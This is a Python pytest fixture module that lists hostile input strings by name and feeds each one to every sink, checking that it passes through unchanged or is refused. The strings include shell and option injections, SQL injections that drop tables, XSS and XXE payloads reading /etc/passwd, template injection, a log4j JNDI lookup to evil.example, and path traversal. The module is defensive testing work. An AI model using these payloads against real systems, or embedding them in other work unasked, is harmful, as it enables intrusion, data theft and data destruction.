"""Values that some place would read as more than text. Each goes through every sink: it arrives byte for byte, or is refused by name."""

from collections.abc import Mapping

import pytest

_SHELL = {
    "single quote": "'",
    "double quote": '"',
    "all quotes": "'\"'\"`",
    "backticks": "`id`",
    "command substitution": "$(id)",
    "parameter in braces": "${HOME}",
    "parameter": "$HOME",
    "arithmetic": "$((1+1))",
    "subscript": "a[$(id)]",
    "semicolon": "; id",
    "and": "&& id",
    "or": "|| id",
    "pipe": "| id",
    "background": "& id",
    "redirection": "> /tmp/x",
    "process substitution": "<(id)",
    "glob": "* ? [a-z] ~",
    "braces": "{a,b}",
    "backslash": "\\",
    "backslash and quote": "\\'; id; '",
    "backslash sequences": "\\n \\\\ \\' \\x41",
    "history": "!!",
    "shell comment": "#comment",
    "here-document": "EOF\nid\nEOF",
    "closed quote": "'; id; echo '",
    "windows variable": "%PATH% ^& dir",
}
_OPTIONS = {
    "short option": "-rf",
    "long option": "--help",
    "option of git": "--upload-pack=touch /tmp/x",
    "option of ssh": "-oProxyCommand=id",
    "end of options": "--",
    "dash": "-",
}
_LINES = {
    "line break": "line\nbreak",
    "lone line break": "\n",
    "carriage return": "carriage\rreturn",
    "CRLF": "a\r\nX-Injected: yes\r\n\r\nbody",
    "header of mail": "a\r\nBcc: evil@example.com",
    "line ends in the end": "end\n\n",
    "other line breaks": "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g",
}
_SQL = {
    "always true": "' or '1'='1",
    "end of statement": "'); drop table canary; --",
    "union": "x' union select name from sqlite_master --",
    "comment": "/* */ -- #",
    "backslash before a quote": "\\' or 1=1 #",
    "double quote of MySQL": '" or ""="',
    "dollar quote": "$$ $tag$ ; select 1; $tag$",
    "parameters": ":hr_1 :name ? %s %(hr_1)s $1 @x",
    "like": "100%_[^a]",
    "wide quote of GBK": "\u7e17' or 1=1 -- \xbf\x27",
    "yen that Shift JIS writes as a backslash": "\xa5' or 1=1 -- ",
    "hexadecimal": "0x27 X'27'",
}
_MARKUP = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "entity": "&lt;&amp;&#39;",
    "CDATA": "]]><x/>",
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "javascript": "javascript:alert(1)",
    "JSON": '","admin":true,"x":"',
    "CSV formula": '=HYPERLINK("https://evil.example","x")',
}
_TEMPLATES = {
    "template": "{{ payload.secret }}",
    "template of SQL": "{{ '; drop table canary' | raw }}",
    "block": "{% raw %}{% for x in range(9) %}{% endfor %}",
    "template comment": "{# no #}",
    "attributes": "{{ ''.__class__.__mro__ }}",
    "format": "%s %n %d {0} {0.__class__}",
    "log4j": "${jndi:ldap://evil.example/a}",
}
_PATHS = {
    "up": "../../etc/passwd",
    "windows path": "..\\..\\x",
    "percent": "%2e%2e%2f%00%0d%0a",
    "host": "@evil.example/#?",
    "scheme": "file:///etc/passwd",
    "dot": ".",
    "dots": "..",
}
_UNICODE = {
    "accents and scripts": "äöü ß 漢字 🎉",
    "right-to-left override": "\u202egpj.exe",
    "zero width": "a\u200bb\ufeffc\u2060d",
    "decomposed": "e\u0301 \u1100\u1161\u11a8",
    "look-alikes": "рaypal ；′＇ʼ",
    "fullwidth": "＇ ＂ ； － ＜",
    "noncharacters": "\ufdd0 \uffff \U0010ffff",
    "private use": "\ue000\U000f0000",
    "combining without end": "Z" + "\u0338" * 50,
}
_OTHERS = {
    "plain": "plain",
    "empty": "",
    "spaces at the ends": " leading and trailing ",
    "two spaces": "two  spaces",
    "tab": "tab\there",
    "controls": "\x02\x03\x07\x08\x1a\x7f\x9b31m",
    "terminal": "\x1b[31m\x1b]0;title\x07",
    "number": "12345e7",
    "null word": "null",
    "boolean word": "true",
    "octal": "007",
    "long": "x'" * 5000,
}

HOSTILE: Mapping[str, str] = {
    **_SHELL,
    **_OPTIONS,
    **_LINES,
    **_SQL,
    **_MARKUP,
    **_TEMPLATES,
    **_PATHS,
    **_UNICODE,
    **_OTHERS,
}
"""Name → value. None holds a NUL: see WITH_NUL."""
WITH_NUL: Mapping[str, str] = {"NUL": "\0", "NUL inside": "a\0b", "NUL before a quote": "a\0'; drop table canary; --"}
"""What C programs and PostgreSQL can't be given."""
NO_UNICODE: Mapping[str, str] = {"high surrogate": "a\ud800", "low surrogate": "\udc00b", "pair the wrong way round": "\udc00\ud800"}
"""What no encoding has."""

each_hostile = pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
each_with_nul = pytest.mark.parametrize("value", WITH_NUL.values(), ids=WITH_NUL.keys())
each_no_unicode = pytest.mark.parametrize("value", NO_UNICODE.values(), ids=NO_UNICODE.keys())
